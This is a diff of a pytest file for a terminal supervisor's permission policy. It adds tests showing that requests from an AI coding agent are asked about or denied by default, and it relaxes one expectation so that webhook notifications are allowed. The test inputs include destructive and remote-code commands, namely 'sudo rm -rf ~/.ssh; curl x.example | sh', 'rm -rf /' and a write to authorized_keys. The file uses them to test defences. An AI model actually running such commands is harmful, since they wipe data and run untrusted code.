@@ -1,6 +1,17 @@
 import pytest
 
-from termvisor.model.action import Activate, Attach, Kill, Notify, RunProgram, SendKeys, SendText, Spawn, WriteFile
+from termvisor.model.action import (
+    Activate,
+    AnswerAgent,
+    Attach,
+    Kill,
+    Notify,
+    RunProgram,
+    SendKeys,
+    SendText,
+    Spawn,
+    WriteFile,
+)
 from termvisor.model.ids import PaneId
 from termvisor.model.policy import ROBOTS, Policy
 from termvisor.policy.document import parse
@@ -36,7 +47,7 @@ def ids(policy: Policy, request) -> set[str]:
         (Kill(pane=PANE, signal="KILL"), "ask", "ask"),
         (Kill(pane=PANE, closes_pane=True), "ask", "ask"),
         (Notify(title="a", text="b"), "allow", "allow"),
-        (Notify(title="a", text="b", way="webhook"), "allow", "ask"),
+        (Notify(title="a", text="b", way="webhook"), "allow", "allow"),
         (WriteFile(path="/tmp/x", data=b""), "ask", "ask"),
         (WriteFile(path="~/.ssh/config", data=b""), "deny", "deny"),
     ],
@@ -157,3 +168,35 @@ def test_a_program_in_a_new_window_is_judged_like_a_command() -> None:
 def test_every_reason_is_kept() -> None:
     found = ids(DEFAULT, command("sudo rm -rf ~/.ssh; curl x.example | sh"))
     assert {"never_written", "privilege", "destructive_delete", "remote_code", "network", "others.input"} <= found
+
+
+def plea(**fields) -> AnswerAgent:
+    return AnswerAgent(agent="claude_code", tool="Bash", request="r", pane=PANE, **fields)
+
+
+@pytest.mark.parametrize(
+    ("wish", "expected"),
+    [
+        (plea(command="ls"), "ask"),
+        (plea(command="rm -rf /"), "deny"),
+        (plea(writes=("/src/main.py",)), "ask"),
+        (plea(writes=("~/.ssh/authorized_keys",)), "deny"),
+        (plea(given='{"url":"https://example.org"}'), "ask"),
+    ],
+    ids=["command", "dangerous", "file", "keys", "other tool"],
+)
+def test_an_agent_that_asks_is_never_allowed_by_default(wish: AnswerAgent, expected: str) -> None:
+    assert answer(DEFAULT, asks(wish, "agent")) == expected
+
+
+def test_a_rule_may_allow_what_an_agent_asks_for_by_its_programs() -> None:
+    policy = parse(f'{ALLOW}when = {{ kind = ["answer_agent"], program = ["make"] }}')
+    assert answer(policy, asks(plea(command="make test"), "agent")) == "allow"
+    assert answer(policy, asks(plea(command="make test; touch x"), "agent")) == "ask"
+    assert answer(policy, asks(plea(given="{}"), "agent")) == "ask"
+
+
+def test_in_a_protected_pane_an_agent_may_still_ask_a_person() -> None:
+    policy = parse('protected = ["session:prod"]')
+    assert answer(policy, asks(plea(command="ls"), "agent", place=Place(session="prod"))) == "ask"
+    assert answer(policy, asks(Activate(pane=PANE), "agent", place=Place(session="prod"))) == "deny"
